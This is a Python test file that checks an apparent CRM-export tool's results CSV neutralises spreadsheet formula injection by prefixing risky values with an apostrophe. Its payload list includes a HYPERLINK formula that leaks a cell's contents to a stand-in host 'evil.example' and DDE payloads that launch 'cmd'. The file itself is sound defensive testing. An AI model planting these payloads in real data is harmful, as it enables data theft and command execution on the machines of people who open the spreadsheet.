"""The export results CSV is spreadsheet-safe: a record named like a formula stays text.

Record names come from platform data and Dynamics (anyone can name a company
`=HYPERLINK(…)`); the CSV is opened in Excel by the person who exported.
"""

from __future__ import annotations

import csv
import io
import uuid

import pytest

from gtmsync.export.models import ExportItem
from gtmsync.export.results import results_csv

FORMULAS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("label", FORMULAS)
def test_formula_like_values_are_quoted(label: str) -> None:
    item = ExportItem(
        export_id=uuid.uuid4(),
        position=0,
        platform_id=label,
        label=label,
        action="create",
        status="failed",
        message=label,
        problems=[label],
        duplicate=None,
        association=None,
    )
    [header, row] = list(csv.reader(io.StringIO(results_csv([item]), newline="")))
    cells = dict(zip(header, row, strict=True))
    for column in ("platform_id", "record", "message", "problems"):
        assert cells[column] == "'" + label, column
